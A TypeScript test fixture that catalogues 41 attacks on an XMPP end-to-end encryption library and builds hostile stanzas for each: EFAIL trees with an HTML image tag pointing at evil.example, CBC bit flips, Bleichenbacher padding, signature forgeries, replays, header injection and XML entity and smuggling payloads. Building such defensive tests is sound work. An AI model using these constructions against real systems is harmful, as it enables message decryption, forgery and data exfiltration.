/**
 * The attacks that this library is tested against, by number: which file carries each one out in full, what refuses it,
 * and what may be answered. Hostile stanzas of one kind or more for each attack that a stanza can carry are built here. Long, since it is one table.
 */
import type { SecurityBackend } from '../../src/backends/backend.ts';
import { oids } from '../../src/asn1/oids.ts';
import { concatBytes, utf8 } from '../../src/bytes.ts';
import { wrap } from '../../src/e2e/wrap.ts';
import {
  E2E_NAMESPACE,
  type E2eErrorCode,
  type OpenContext,
  parseXml,
  type Policy,
  sealStanza,
  serializeXml,
  type XmlElement,
} from '../../src/index.ts';
import { juliet, mallory, type People, romeo } from '../people.ts';
import { keyTransport, seal } from '../unit/cms/envelope.ts';
import { cpim as plainCpim, shell, wrappedXmppXml } from '../unit/e2e/scene.ts';
import { armored, sed } from '../unit/openpgp/forge.ts';
import {
  attributeSet,
  contentTypeAttribute,
  digestAttribute,
  ed25519,
  forge,
  hashOf,
  pkcs7Mime,
  usual,
} from '../unit/smime/forge.ts';
import { issue } from '../unit/x509/support.ts';
import { type Certified, forged, named, stanzaOf } from './certified.ts';
import { at, crafted, encryptedFor, signedBy } from './crafted.ts';

/** What must never show in an error or a reply. */
export const secret = 'plain-9c41f7';

/** A hostile stanza and how it is opened; by Romeo, under both policies, unless said otherwise. */
export interface Specimen {
  readonly stanza: XmlElement | string;
  readonly backend?: SecurityBackend;
  readonly policies?: readonly Policy['name'][];
  readonly context?: OpenContext;
  readonly at?: Date;
  /** Opened before, with the same guard. */
  readonly before?: readonly XmlElement[];
}

/** What the builders may use. */
export interface World {
  readonly certified: Certified;
  /** P-256 for S/MIME. */
  readonly people: People;
  /** RSA. */
  readonly old: People;
  readonly openpgp: People;
}

/** One attack. */
export interface Attack {
  readonly row: number;
  readonly attack: string;
  /** Below `test/`. */
  readonly files: readonly string[];
  readonly codes?: readonly E2eErrorCode[];
  /** Answers that a contact may get in the mode `safe`. */
  readonly replies?: readonly ('silence' | 'bad-request' | 'service-unavailable' | 'D' | 'S' | 'T')[];
  readonly specimens?: (world: World) => Promise<readonly Specimen[]>;
}

const cpim = (headers: Record<string, string | readonly string[]> = {}, body = secret): Uint8Array =>
  plainCpim(headers, body);
const codes = (...names: readonly string[]): readonly E2eErrorCode[] =>
  names.map((name) => `ERR_E2E_${name}` as E2eErrorCode);
const minutes = (count: number): string => new Date(at.getTime() + count * 60_000).toISOString();

async function each<T>(list: readonly T[], build: (one: T) => Promise<XmlElement>): Promise<Specimen[]> {
  const made: Specimen[] = [];
  for (const one of list) made.push({ stanza: await build(one) });
  return made;
}

/** Both backends' Juliet to Romeo. */
async function both(
  world: World,
  contents: readonly Uint8Array[],
  outer: (text: string) => string = (text) => text,
): Promise<Specimen[]> {
  const made: Specimen[] = [];
  for (const { juliet: her, romeo: him } of [world.people, world.openpgp]) {
    for (const content of contents)
      made.push({ stanza: await crafted(her, him, content, outer(shell)), backend: him.backend });
  }
  return made;
}

function flippedText(stanza: XmlElement, places: number): XmlElement[] {
  const e2e = stanza.first('e2e', E2E_NAMESPACE)!;
  const { text } = e2e;
  // In the ciphertext: what is written for other recipients may change, and is not read.
  const start = Math.floor(text.length * 0.65);
  const end = Math.floor(text.length * 0.95);
  return Array.from({ length: places }, (_, i) => {
    const place = start + Math.floor(((end - start) * (i + 0.5)) / places);
    const changed = text.slice(0, place) + (text[place] === 'A' ? 'B' : 'A') + text.slice(place + 1);
    return stanza.withChildren([e2e.withChildren([changed])]);
  });
}

const mixed = (...parts: readonly Uint8Array[]): Uint8Array =>
  concatBytes(
    utf8('Content-Type: multipart/mixed; boundary=outer\r\n\r\n'),
    ...parts.flatMap((part) => [utf8('--outer\r\n'), part, utf8('\r\n')]),
    utf8('--outer--\r\n'),
  );
const html = utf8('Content-Type: text/html\r\n\r\n<img src="http://evil.example/');

const anyDecryption = codes('DECRYPTION_FAILED', 'NO_DECRYPTION_KEY', 'MALFORMED', 'UNSUPPORTED', 'LIMIT');
const unverified = codes('SENDER_MISMATCH', 'SIGNER_UNTRUSTED', 'SIGNER_UNKNOWN', 'SIGNATURE_INVALID');

export const attacks: readonly Attack[] = [
  {
    ...{ row: 1, attack: 'EFAIL: ciphertext inside a tree of the attacker' },
    files: ['security/openpgp-efail.test.ts', 'security/smime-encryption.test.ts', 'security/mime-trees.test.ts'],
    codes: codes('UNSUPPORTED', 'MALFORMED', 'LAYERS_REFUSED', 'PAYLOAD_INVALID', 'SIGNER_UNTRUSTED', 'SIGNER_UNKNOWN'),
    replies: ['silence', 'service-unavailable', 'bad-request', 'S'],
    specimens: async (world) => {
      const made: Specimen[] = [];
      for (const { juliet: her, romeo: him, mallory: she } of [world.people, world.openpgp]) {
        const signed = await signedBy(her, cpim(), [him]);
        const sealed = await encryptedFor(her, signed, [him]);
        const unsigned = await encryptedFor(her, cpim(), [him]);
        const trees = [
          mixed(html, sealed, html),
          mixed(html, unsigned, html),
          mixed(sealed),
          mixed(signed, html),
          await signedBy(her, sealed, [him]),
          await signedBy(her, mixed(html, unsigned), [him]),
          await encryptedFor(her, sealed, [him]),
          await encryptedFor(she, await signedBy(she, mixed(unsigned, html), [him]), [him]),
          await encryptedFor(she, await signedBy(her, signed, [him]), [him]),
          concatBytes(utf8('Content-Type: text/html\r\n\r\n'), sealed),
        ];
        for (const tree of trees) made.push({ stanza: wrap(parseXml(shell), tree), backend: him.backend });
      }
      return made;
    },
  },
  {
    ...{ row: 2, attack: 'CBC gadgets, bit flips' },
    files: ['security/cms-changed-octets.test.ts', 'security/smime-encryption.test.ts'],
    ...{ codes: anyDecryption, replies: ['D', 'bad-request', 'silence', 'service-unavailable'] },
    specimens: async ({ people: all, old, openpgp }) => {
      const plain = `<message xmlns='jabber:client' from='${juliet}/balcony' to='${romeo}' id='m1'><body>${secret}</body></message>`;
      const legacy = await sealStanza(plain, { backend: old.juliet.backend, profile: 'rfc3923', at });
      const specimens: Specimen[] = flippedText(legacy, 40).map((stanza) => ({
        ...{ stanza, backend: old.romeo.backend, policies: ['rfc3923'] },
      }));
      for (const { juliet: her, romeo: him } of [all, openpgp])
        for (const stanza of flippedText(await crafted(her, him, cpim()), 40))
          specimens.push({ stanza, backend: him.backend });
      return specimens;
    },
  },
  {
    ...{ row: 3, attack: 'AEAD re-framed as CBC' },
    files: ['security/cms-reframing.test.ts', 'security/smime-encryption.test.ts'],
    ...{ codes: codes('DECRYPTION_FAILED', 'WEAK_ALGORITHM'), replies: ['silence'] },
    specimens: async ({ certified: { his, hisName, leaf, backend } }) => {
      const content = await forged(cpim(), { signer: leaf });
      const recipients = [keyTransport({ publicKey: his.publicKey, identifier: hisName })];
      const key = new Uint8Array(32).fill(7);
      return each([1, 2, 3, 4, 5], (i) => {
        // The key and ciphertext of GCM under the name of CBC.
        const cms = seal({
          ...{ cipher: 'aes256-cbc', recipients, content, key },
          ciphertext: (right) => right.subarray(0, right.length - 16 * i),
        });
        return Promise.resolve(stanzaOf(pkcs7Mime(cms, 'enveloped-data')));
      }).then((list) => list.map((one) => ({ ...one, backend })));
    },
  },
  {
    ...{ row: 4, attack: 'OpenPGP without integrity protection' },
    files: ['security/openpgp-integrity.test.ts', 'security/weak-algorithms.test.ts'],
    ...{
      codes: codes('DECRYPTION_FAILED', 'WEAK_ALGORITHM', 'MALFORMED'),
      replies: ['silence', 'D', 'bad-request', 'S'],
    },
    specimens: ({ openpgp }) => {
      const data = armored('message', sed(cpim(), new Uint8Array(32))).replaceAll(/\r?\n/g, '\r\n');
      return Promise.resolve([{ stanza: stanzaOf(utf8(data)), backend: openpgp.romeo.backend }]);
    },
  },
  {
    ...{ row: 5, attack: 'Bleichenbacher on RSAES-PKCS1-v1_5' },
    files: ['security/cms-rsa-padding.test.ts', 'security/openpgp-decryption-oracle.test.ts'],
    ...{ codes: codes('DECRYPTION_FAILED', 'WEAK_ALGORITHM'), replies: ['silence'] },
    specimens: async ({ certified: { his, hisName, leaf, backend } }) => {
      const content = await forged(cpim(), { signer: leaf });
      const flips = Array.from({ length: 20 }, (_, i) => i * 12);
      return (
        await each(flips, (place) => {
          const encryptedKey = (right: Uint8Array): Uint8Array => right.map((b, i) => (i === place ? b ^ 1 : b));
          const transport = { publicKey: his.publicKey, identifier: hisName, pkcs1v15: true, encryptedKey };
          const cms = seal({ cipher: 'aes128-cbc', recipients: [keyTransport(transport)], content });
          return Promise.resolve(stanzaOf(pkcs7Mime(cms, 'enveloped-data')));
        })
      ).map((one) => ({ ...one, backend }));
    },
  },
  { row: 6, attack: 'CBC padding oracle through error replies', files: ['security/padding-oracle-replies.test.ts'] },
  { row: 7, attack: 'oracle by timing, or by silence against reply', files: ['security/reply-timing.test.ts'] },
  {
    ...{ row: 8, attack: 'content embedded beside detached content' },
    files: ['security/cms-forgeries.test.ts', 'security/smime-forgeries.test.ts'],
    ...{ codes: codes('SIGNATURE_INVALID'), replies: ['S'] },
    specimens: async ({ certified: { leaf, backend } }) => {
      const evil = cpim({}, 'I never loved thee');
      const pairs = [
        [cpim(), evil],
        [evil, cpim()],
        [cpim(), cpim()],
      ] as const;
      return (
        await each(pairs, async ([beside, eContent]) =>
          stanzaOf(await forged(beside, { signer: leaf, signedContent: eContent }, { eContent })),
        )
      ).map((one) => ({ ...one, backend }));
    },
  },
  {
    ...{ row: 9, attack: 'several signers, none, one certificate twice' },
    files: ['security/cms-forgeries.test.ts', 'security/smime-forgeries.test.ts'],
    codes: codes('LIMIT', 'UNSIGNED', 'SIGNATURE_INVALID', 'SIGNER_UNTRUSTED', 'MALFORMED'),
    replies: ['S', 'bad-request'],
    specimens: async ({ certified: { leaf, backend } }) => {
      const stranger = await issue({ subject: 'Juliet', extensions: named, serial: leaf.certificate.serial });
      const entity = async (signers: readonly (typeof leaf)[]): Promise<XmlElement> => {
        const one = { signer: signers[0] ?? leaf };
        const list = signers.map((signer) => ({ signer, algorithm: { scheme: 'ed25519' }, digest: 'sha512' }) as const);
        return stanzaOf(await forged(cpim(), one, { signers: list }));
      };
      return (await each([[leaf, leaf], [leaf, stranger], [stranger, leaf], [stranger]] as const, entity)).map(
        (one) => ({ ...one, backend }),
      );
    },
  },
  {
    ...{ row: 10, attack: 'self-signed, unknown and cross-signed certificates' },
    files: ['security/untrusted-signer.test.ts'],
    ...{ codes: codes('SIGNER_UNTRUSTED'), replies: ['S'] },
    specimens: async ({ certified: { backend } }) => {
      const root = await issue({ subject: 'Root', ca: true });
      const signers = [
        await issue({ subject: 'Juliet', extensions: named }),
        await issue({ subject: 'Juliet', issuer: root, extensions: named }),
      ];
      return (await each(signers, async (signer) => stanzaOf(await forged(cpim(), { signer })))).map((one) => ({
        ...one,
        backend,
      }));
    },
  },
  {
    ...{ row: 11, attack: 'signed attributes presented as content' },
    files: ['security/cms-forgeries.test.ts', 'security/smime-forgeries.test.ts'],
    ...{ codes: codes('SIGNATURE_INVALID', 'MALFORMED'), replies: ['S', 'bad-request'] },
    specimens: async ({ certified: { leaf, backend } }) => {
      const contents = Array.from({ length: 10 }, (_, i) => cpim({}, `${secret} ${i}`));
      return (
        await each(contents, async (content) => {
          const attributes = attributeSet(usual(hashOf('sha512', content)));
          const signers = [{ signer: leaf, ...ed25519, attributes: null }];
          return stanzaOf(pkcs7Mime(await forge({ signers, content: attributes, eContent: attributes })));
        })
      ).map((one) => ({ ...one, backend }));
    },
  },
  {
    ...{ row: 12, attack: 'another type of content, TSTInfo first' },
    files: ['security/cms-forgeries.test.ts'],
    ...{ codes: codes('SIGNATURE_INVALID'), replies: ['S'] },
    specimens: async ({ certified: { leaf, backend } }) => {
      const types = [oids.tstInfo, oids.signedData, oids.envelopedData, oids.encryptedData, oids.compressedData];
      return (
        await each(types, async (type) => {
          const attributes = (digest: Uint8Array) => [contentTypeAttribute(type), digestAttribute(digest)];
          return stanzaOf(await forged(cpim(), { signer: leaf, attributes }, { eContentType: type }));
        })
      ).map((one) => ({ ...one, backend }));
    },
  },
  {
    ...{ row: 13, attack: 'partly signed multiparts' },
    files: ['security/mime-trees.test.ts', 'security/openpgp-efail.test.ts'],
    ...{ codes: codes('MALFORMED', 'LIMIT', 'UNSUPPORTED'), replies: ['bad-request', 'service-unavailable'] },
    specimens: async (world) => {
      const made: Specimen[] = [];
      for (const { juliet: her, romeo: him } of [world.people, world.openpgp]) {
        const text = Buffer.from(await signedBy(her, cpim(), [him])).toString('latin1');
        const boundary = /boundary="?([^";\r\n]+)/.exec(text)![1]!;
        const [head, ...rest] = text.split('\r\n\r\n');
        const body = rest.join('\r\n\r\n');
        const extra = `--${boundary}\r\nContent-Type: text/plain\r\n\r\n${secret}\r\n`;
        const last = body.lastIndexOf(`--${boundary}--`);
        const trees = [
          `${secret}\r\n${body}`,
          `${extra}${body}`,
          `${body.slice(0, last)}${extra}${body.slice(last)}`,
          `${body}\r\n${secret}`,
          `${body}${body}`,
          body.slice(0, last),
        ];
        for (const tree of trees)
          made.push({
            ...{ stanza: stanzaOf(Buffer.from(`${head!}\r\n\r\n${tree}`, 'latin1')), backend: him.backend },
          });
      }
      return made;
    },
  },
  {
    ...{ row: 14, attack: 'control and bidirectional characters for a terminal' },
    files: ['unit/cli/misuse.test.ts', 'unit/cli/show.test.ts', 'unit/errors.test.ts'],
  },
  {
    ...{ row: 15, attack: 'a signer who is not the sender' },
    files: ['security/impersonated-sender.test.ts', 'security/openpgp-signer.test.ts'],
    codes: [...unverified, ...codes('PAYLOAD_INVALID')],
    replies: ['S', 'silence'],
    specimens: async (world) => {
      const made: Specimen[] = [];
      for (const { mallory: she, romeo: him } of [world.people, world.openpgp])
        for (const content of [
          cpim(),
          cpim({ From: `<im:${mallory}>` }),
          cpim({ From: [`<im:${juliet}>`, `<im:${mallory}>`] }),
          cpim({ From: `"${juliet}" <im:${mallory}>` }),
          wrappedXmppXml(`<message from='${mallory}' type='chat' id='m1'><body>${secret}</body></message>`),
        ])
          made.push({ stanza: await crafted(she, him, content), backend: him.backend });
      return made;
    },
  },
  { row: 16, attack: 'a body that imitates the verdict', files: ['security/imitated-verdict.test.ts'] },
  {
    ...{ row: 17, attack: 'surreptitious forwarding' },
    files: ['security/surreptitious-forwarding.test.ts', 'security/openpgp-forwarding.test.ts'],
    ...{ codes: codes('RECIPIENT_MISMATCH'), replies: ['S'] },
    specimens: async (world) => {
      const made: Specimen[] = [];
      for (const { juliet: her, romeo: him, mallory: she } of [world.people, world.openpgp]) {
        const signed = await signedBy(her, cpim({ To: `<im:${mallory}>` }), [she]);
        for (const entity of [signed, await encryptedFor(she, signed, [him])])
          made.push({ stanza: stanzaOf(entity), backend: him.backend });
      }
      return made;
    },
  },
  {
    ...{ row: 18, attack: 'from, to, type, id changed on the way' },
    files: ['security/changed-routing.test.ts'],
    codes: [...unverified, ...codes('RECIPIENT_MISMATCH', 'PAYLOAD_INVALID', 'LAYERS_REFUSED', 'MALFORMED')],
    replies: ['S', 'silence', 'bad-request'],
    specimens: async (world) => {
      const inner = wrappedXmppXml(
        `<message from='${juliet}/balcony' to='${romeo}' type='chat' id='m1'><body>${secret}</body></message>`,
      );
      const swaps: readonly (readonly [string, string])[] = [
        ['from', mallory],
        ['from', `${juliet}/tomb`],
        ['to', mallory],
        ['type', 'normal'],
        ['type', 'groupchat'],
        ['id', 'm2'],
      ];
      const made: Specimen[] = [];
      for (const { stanza, backend } of await both(world, [inner]))
        for (const [name, value] of swaps)
          made.push({ stanza: (stanza as XmlElement).withAttribute(name, value), backend: backend! });
      return made;
    },
  },
  {
    ...{ row: 19, attack: 'replay' },
    files: [
      'security/replayed-stanzas.test.ts',
      'security/replays-across-processes.test.ts',
      'unit/stores/replay-file.test.ts',
    ],
    ...{ codes: codes('REPLAYED'), replies: ['T'] },
    specimens: async (world) =>
      (await both(world, [cpim()])).map((one) => ({ ...one, before: [one.stanza as XmlElement] })),
  },
  {
    ...{ row: 20, attack: 'old, future and decreasing times' },
    files: ['security/forged-times.test.ts', 'unit/e2e/timing.test.ts'],
    ...{ codes: codes('TIMESTAMP'), replies: ['T'] },
    specimens: async (world) => {
      const late = await both(world, [cpim()]);
      const order = await both(world, [cpim({ DateTime: minutes(2) }), cpim({ DateTime: minutes(1) })]);
      const strict = { policies: ['strict'] } as const;
      return [
        ...late.map((one) => ({ ...one, ...strict, at: new Date(minutes(6)) })),
        ...late.map((one) => ({ ...one, ...strict, at: new Date(minutes(-6)) })),
        ...[1, 3].map((i) => ({ ...order[i]!, ...strict, before: [order[i - 1]!.stanza as XmlElement] })),
      ];
    },
  },
  {
    ...{ row: 21, attack: 'forged delay stamps' },
    files: ['security/forged-times.test.ts', 'unit/e2e/timing.test.ts'],
    ...{ codes: codes('TIMESTAMP'), replies: ['T'] },
    specimens: async (world) => {
      const later = new Date(minutes(1440));
      const stamped = (stamp: string) => (text: string) =>
        text.replace('/>', `><delay xmlns='urn:xmpp:delay' stamp='${stamp}'/></message>`);
      const made: Specimen[] = [];
      for (const stamp of [later.toISOString(), minutes(6), minutes(-6), 'nonsense'])
        for (const one of await both(world, [cpim()], stamped(stamp)))
          made.push({ ...one, at: later, policies: ['strict'] });
      return made;
    },
  },
  {
    ...{ row: 22, attack: 'a plain stanza in the place of a sealed one, or beside it' },
    files: ['security/plaintext-beside.test.ts', 'unit/e2e/transparent.test.ts'],
    ...{ codes: codes('NOT_SEALED', 'UNSIGNED', 'LAYERS_REFUSED'), replies: ['service-unavailable', 'S', 'silence'] },
    specimens: async (world) => {
      const plain = shell.replace('/>', `><body>${secret}</body></message>`);
      const bare = serializeXml(stanzaOf(cpim()));
      const made: Specimen[] = [];
      for (const { stanza, backend } of await both(world, [cpim()])) {
        const e2e = (stanza as XmlElement).first('e2e', E2E_NAMESPACE)!;
        for (const hostile of [plain, bare, (stanza as XmlElement).withChildren([e2e, e2e])])
          made.push({ stanza: hostile, backend: backend! });
      }
      return made;
    },
  },
  {
    ...{ row: 23, attack: 'weak algorithms' },
    files: ['security/weak-algorithms.test.ts'],
    ...{ codes: codes('WEAK_ALGORITHM'), replies: ['silence', 'S'] },
    specimens: async ({ old, certified: { backend, leaf, his, hisName } }) => {
      const plain = `<message xmlns='jabber:client' from='${juliet}/balcony' to='${romeo}' id='m1'><body>${secret}</body></message>`;
      const legacy = await sealStanza(plain, { backend: old.juliet.backend, profile: 'rfc3923', at });
      const content = await forged(cpim(), { signer: leaf });
      const transport = { publicKey: his.publicKey, identifier: hisName };
      const envelopes = [
        seal({ cipher: 'aes128-cbc', recipients: [keyTransport(transport)], content }),
        seal({ cipher: 'des-ede3-cbc', recipients: [keyTransport(transport)], content }),
        seal({ cipher: 'aes128-gcm', recipients: [keyTransport({ ...transport, pkcs1v15: true })], content }),
      ];
      return [
        { stanza: legacy, backend: old.romeo.backend, policies: ['strict'] },
        ...envelopes.map((cms): Specimen => ({ stanza: stanzaOf(pkcs7Mime(cms)), backend, policies: ['strict'] })),
      ];
    },
  },
  ...(
    [
      [24, 'lines injected into CPIM headers', ['security/cpim-headers.test.ts']],
      [25, 'CPIM duplicates, case twins, aliases, unknown Require', ['security/cpim-headers.test.ts']],
    ] as const
  ).map(([row, attack, files]): Attack => ({
    ...{ row, attack, files, replies: ['silence', 'service-unavailable', 'S', 'T'] },
    codes: codes('PAYLOAD_INVALID', 'UNSUPPORTED', 'RECIPIENT_MISMATCH', 'SENDER_MISMATCH', 'TIMESTAMP'),
    specimens: (world) =>
      both(
        world,
        row === 24
          ? ['a\u0000b', 'a\u0001b', 'a\u001bb', 'a\u007fb'].map((subject) => cpim({ Subject: subject }))
          : [
              cpim({ From: [`<im:${juliet}>`, `<im:${juliet}>`] }),
              cpim({ DateTime: [at.toISOString(), at.toISOString()] }),
              cpim({ Require: 'urn:x' }),
              cpim({ NS: 'x <urn:ietf:params:cpim-headers:>', 'x.From': `<im:${mallory}>` }),
              cpim({ Subject: ['a', 'b'] }),
            ],
      ),
  })),
  {
    ...{ row: 26, attack: 'charsets and broken UTF-8' },
    files: ['security/cpim-charset.test.ts'],
    ...{ codes: codes('PAYLOAD_INVALID', 'UNSUPPORTED'), replies: ['silence', 'service-unavailable'] },
    specimens: (world) => {
      const text = (bytes: string, charset = 'utf-8'): Uint8Array => {
        const whole = Buffer.from(cpim({}, '')).toString('latin1').replace('charset=utf-8', `charset=${charset}`);
        return Buffer.from(whole + bytes, 'latin1');
      };
      const broken = ['\xc0\xaf', '\xe0\x80\xaf', '\xed\xa0\x80', '\xf8\x88\x80\x80\x80', '\xff', '\xc3', '\xef\xbf'];
      const charsets = ['utf-7', 'utf-16', 'x-unknown', 'us-ascii-x'];
      return both(world, [...broken.map((one) => text(one)), ...charsets.map((one) => text(secret, one))]);
    },
  },
  {
    ...{ row: 27, attack: 'DTDs, entities, processing instructions' },
    files: ['security/xml-attack-payloads.test.ts'],
    ...{ codes: codes('MALFORMED', 'PAYLOAD_INVALID'), replies: ['silence'] },
    specimens: async (world) => {
      const inside = [
        `<!DOCTYPE x [<!ENTITY e '${secret}'>]><message><body>&e;</body></message>`,
        `<message id='m1'><body>&e;</body></message>`,
        `<?php x?><message id='m1'/>`,
        `<message id='m1'><!-- ${secret} --></message>`,
        `<message id='m1'><?xml version='1.0'?></message>`,
      ];
      const outside: Specimen[] = [];
      for (const { backend } of [world.people.romeo, world.openpgp.romeo])
        for (const one of [`<!DOCTYPE x>${shell}`, shell.replace('/>', '>&e;</message>')])
          outside.push({ stanza: one, backend });
      return [
        ...outside,
        ...(await both(
          world,
          inside.map((one) => wrappedXmppXml(one)),
        )),
      ];
    },
  },
  {
    ...{ row: 28, attack: 'depth, attributes, text and names' },
    files: ['security/xml-size.test.ts', 'unit/e2e/limits.test.ts'],
    ...{ codes: codes('LIMIT', 'PAYLOAD_INVALID'), replies: ['bad-request', 'silence'] },
    specimens: async (world) => {
      const depth = (n: number): string => `${"<x xmlns='urn:x'>".repeat(n)}${'</x>'.repeat(n)}`;
      const wide = (n: number): string =>
        `<x xmlns='urn:x' ${Array.from({ length: n }, (_, i) => `a${i}='1'`).join(' ')}/>`;
      const shapes = [depth(65), wide(129), `<x xmlns='urn:x'>${'<y/>'.repeat(10_000)}</x>`];
      const outside = shapes.map((xml) => shell.replace('/>', `>${xml}</message>`));
      const { backend } = world.people.romeo;
      return [
        ...[...outside, shell.replace('/>', `>${'x'.repeat(262_144)}</message>`)].map((stanza) => ({
          stanza,
          backend,
        })),
        ...(await both(
          world,
          shapes.map((xml) => wrappedXmppXml(`<message type='chat' id='m1'>${xml}</message>`)),
        )),
      ];
    },
  },
  {
    ...{ row: 29, attack: 'stanza smuggling' },
    files: ['security/smuggled-stanzas.test.ts'],
    ...{ codes: codes('PAYLOAD_INVALID', 'LAYERS_REFUSED'), replies: ['silence'] },
    specimens: (world) => {
      const good = `<message type='chat' id='m1'><body>${secret}</body></message>`;
      const inside = [
        '',
        good + good,
        `${good}x`,
        '<body>x</body>',
        good.replace('<message', "<message xmlns='urn:x'"),
      ];
      const nested = `<message type='chat' id='m1'><e2e xmlns='${E2E_NAMESPACE}'>x</e2e></message>`;
      return both(
        world,
        [...inside, nested].map((one) => wrappedXmppXml(one)),
      );
    },
  },
  { row: 30, attack: 'compression bombs', files: ['security/openpgp-bombs.test.ts'] },
  {
    ...{ row: 31, attack: 'costly keys, many recipients' },
    files: ['security/openpgp-bombs.test.ts', 'security/smime-encryption.test.ts', 'security/cms-linear-time.test.ts'],
    ...{ codes: codes('LIMIT'), replies: ['bad-request'] },
    specimens: ({ certified: { backend, his, hisName } }) => {
      const one = keyTransport({ publicKey: his.publicKey, identifier: hisName });
      const cms = seal({ cipher: 'aes256-gcm', recipients: Array.from({ length: 65 }, () => one), content: cpim() });
      return Promise.resolve([{ stanza: stanzaOf(pkcs7Mime(cms)), backend }]);
    },
  },
  {
    ...{ row: 32, attack: 'misissued and revoked certificates' },
    files: [
      'security/misissued-certificates.test.ts',
      'unit/x509/path-validation.test.ts',
      'unit/x509/revocation.test.ts',
    ],
    ...{ codes: codes('SIGNER_UNTRUSTED'), replies: ['S'] },
    specimens: async ({ certified: { root, backend } }) => {
      const issued = [
        await issue({ subject: 'Juliet', issuer: root, extensions: named, extendedKeyUsage: ['1.3.6.1.5.5.7.3.1'] }),
        await issue({ subject: 'Juliet', issuer: root, extensions: named, keyUsage: ['keyEncipherment'] }),
        await issue({ subject: 'Juliet', issuer: root, extensions: named, notAfter: new Date(minutes(-1)) }),
      ];
      return (await each(issued, async (signer) => stanzaOf(await forged(cpim(), { signer })))).map((one) => ({
        ...one,
        backend,
      }));
    },
  },
  {
    ...{ row: 33, attack: 'expired, revoked and unbound OpenPGP keys' },
    files: [
      'security/openpgp-signer.test.ts',
      'unit/openpgp/certificate-keys.test.ts',
      'unit/openpgp/certificate-times.test.ts',
      'unit/openpgp/user-ids.test.ts',
    ],
  },
  { row: 34, attack: 'a replaced key', files: ['security/replaced-key.test.ts'] },
  {
    ...{ row: 35, attack: 'look-alike and unnormalized addresses' },
    files: ['security/look-alike-addresses.test.ts', 'unit/jid/jid.test.ts'],
    codes: [...unverified, ...codes('MALFORMED', 'PAYLOAD_INVALID')],
    replies: ['S', 'silence', 'bad-request'],
    specimens: (world) =>
      both(world, [cpim()], (text) => text.replace(juliet, 'jul\u0456et@example.com')).then((list) => [
        ...list,
        ...list.map((one) => ({
          ...one,
          stanza: (one.stanza as XmlElement).withAttribute('from', 'juliet\u202e@example.com'),
        })),
      ]),
  },
  {
    ...{ row: 36, attack: 'attribution in group chat' },
    files: ['security/group-chat-attribution.test.ts'],
    ...{ codes: codes('LAYERS_REFUSED'), replies: ['silence'] },
    specimens: (world) => both(world, [cpim()], (text) => text.replace("'chat'", "'groupchat'")),
  },
  {
    ...{ row: 37, attack: 'quadratic reading' },
    files: [
      'security/xml-size.test.ts',
      'security/mime-linear-time.test.ts',
      'security/cms-linear-time.test.ts',
      'unit/asn1/linear-time.test.ts',
    ],
  },
  {
    ...{ row: 38, attack: 'names of Object.prototype' },
    files: ['security/xml-property-names.test.ts', 'security/cpim-headers.test.ts'],
  },
  {
    ...{ row: 39, attack: 'lax dates and base64' },
    files: ['security/lax-dates-and-base64.test.ts'],
    ...{ codes: codes('PAYLOAD_INVALID', 'TIMESTAMP'), replies: ['silence', 'T'] },
    specimens: (world) =>
      both(
        world,
        ['2026-02-30T12:00:00Z', '2026-11-22T24:00:00Z', '2026-11-22', 'now'].map((DateTime) => cpim({ DateTime })),
      ),
  },
  {
    row: 40,
    attack: 'secrets in errors and logs',
    files: ['security/planted-secrets.test.ts', 'unit/cli/misuse.test.ts'],
  },
  {
    ...{ row: 41, attack: 'other local users' },
    files: ['unit/stores/directory.test.ts', 'unit/stores/crash.test.ts', 'unit/stores/replay-file.test.ts'],
  },
];
